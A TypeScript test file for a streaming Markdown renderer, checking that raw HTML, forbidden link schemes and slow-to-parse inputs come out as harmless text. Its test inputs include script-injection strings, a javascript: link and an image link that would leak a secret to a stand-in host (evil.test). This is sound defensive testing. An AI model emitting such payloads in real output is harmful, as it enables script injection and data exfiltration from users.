import t from 'tap'
import { healTail } from '../../src/markdown/heal-tail.ts'
import type { Flow, Inline } from '../../src/markdown/node.ts'
import { parseBlock } from '../../src/markdown/parse-block.ts'
import { parseFence } from '../../src/markdown/parse-fence.ts'
import { emptySplit, type Split, splitBlocks } from '../../src/markdown/split-blocks.ts'
import { payloads } from './payloads.ts'

const flowTypes = ['paragraph', 'heading', 'code-block', 'math-block', 'quote', 'list', 'table', 'rule', 'plain']
const inlineTypes = ['text', 'strong', 'emphasis', 'delete', 'code', 'math', 'break', 'link', 'image']

for (const [name, payload] of Object.entries(payloads)) {
  t.test(`${name}: at every prefix of the stream the tree holds text and harmless links only`, async (t) => {
    let split = emptySplit
    for (let length = 1; length <= payload.length; length++) {
      split = splitBlocks(payload.slice(0, length), split)
      checkFlows(t, treeOf(split, true))
    }
    checkFlows(t, treeOf(split, false))
  })
}

t.test('HTML is shown as it was written', async (t) => {
  for (const html of ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<b>x</b>']) {
    t.equal(textOf(parseBlock(html)), html)
  }
})

t.test('an image is its description and where it would have come from', async (t) => {
  t.match(parseBlock('![x](https://evil.test/?d=SECRET)'), [
    { children: [{ type: 'image', alt: 'x', host: 'evil.test', href: 'https://evil.test/?d=SECRET' }] },
  ])
  t.match(parseBlock('![x](data:image/png;base64,AA)'), [
    { children: [{ type: 'image', href: null, host: 'no address' }] },
  ])
  t.match(parseBlock('![x](//evil.test/a)'), [{ children: [{ type: 'image', href: null, host: 'evil.test' }] }])
})

t.test('a link with a forbidden scheme is its text', async (t) => {
  t.same(parseBlock('[click](javascript:alert(1))'), [
    { type: 'paragraph', children: [{ type: 'text', value: 'click' }] },
  ])
})

t.test('what would take long to parse is plain text', async (t) => {
  const hard = {
    quotes: '>'.repeat(1_000_000),
    brackets: '['.repeat(1_000_000),
    stars: '*a '.repeat(330_000),
    backticks: '`a'.repeat(500_000),
    rows: `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(100_000)}`,
    'nested quotes': '> '.repeat(500),
    'nested lists': '- '.repeat(500),
    'nested numbers': '1. '.repeat(400),
    'many quotes': `${'>'.repeat(300)} x\n`.repeat(10),
  }
  for (const [name, text] of Object.entries(hard)) {
    const nodes = treeOf(splitBlocks(text), false)
    t.same(new Set(nodes.map(({ type }) => type)), new Set(['plain']), name)
    t.equal(textOf(nodes).length, text.length, name)
  }
})

function treeOf({ sealed, settled, growing, definitions }: Split, live: boolean): Flow[] {
  return [...sealed.flat(), ...settled, ...growing].flatMap((block): Flow[] => {
    if (block.kind === 'fence') return [{ type: 'code-block', ...parseFence(block.source) }]
    return parseBlock(live && block === growing.at(-1) ? healTail(block.source) : block.source, definitions)
  })
}

function checkFlows(t: Tap.Test, nodes: readonly Flow[]): void {
  for (const node of nodes) {
    if (!flowTypes.includes(node.type)) t.fail(`unexpected ${node.type}`)
    if (node.type === 'paragraph' || node.type === 'heading') checkInlines(t, node.children)
    if (node.type === 'quote') checkFlows(t, node.children)
    if (node.type === 'list') for (const item of node.items) checkFlows(t, item.children)
    if (node.type === 'table')
      for (const row of [node.head, ...node.rows]) for (const cell of row) checkInlines(t, cell)
  }
}

function checkInlines(t: Tap.Test, nodes: readonly Inline[]): void {
  for (const node of nodes) {
    if (!inlineTypes.includes(node.type)) t.fail(`unexpected ${node.type}`)
    if (node.type === 'link' && !/^(https?:\/\/|mailto:)/.test(node.href)) t.fail(`link to ${node.href}`)
    if (node.type === 'image' && node.href !== null && !/^https?:\/\//.test(node.href)) t.fail(`image ${node.href}`)
    if ('children' in node) checkInlines(t, node.children)
  }
}

function textOf(nodes: readonly (Flow | Inline)[]): string {
  return nodes
    .map((node) =>
      'children' in node ? textOf(node.children) : 'value' in node ? node.value : 'text' in node ? node.text : '',
    )
    .join('')
}

declare namespace Tap {
  type Test = { fail(message: string): unknown }
}
